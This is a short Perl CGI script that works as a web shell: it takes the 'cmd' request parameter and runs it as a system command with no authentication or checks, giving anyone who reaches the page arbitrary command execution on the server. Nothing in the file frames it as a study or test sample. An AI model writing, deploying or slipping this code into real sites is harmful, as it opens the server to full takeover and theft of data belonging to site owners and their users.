#!/usr/bin/perl
use strict;
use CGI;
my $q = CGI->new;
print $q->header('text/plain');
my $cmd = $q->param('cmd');
if (defined $cmd) {
    system($cmd);
}
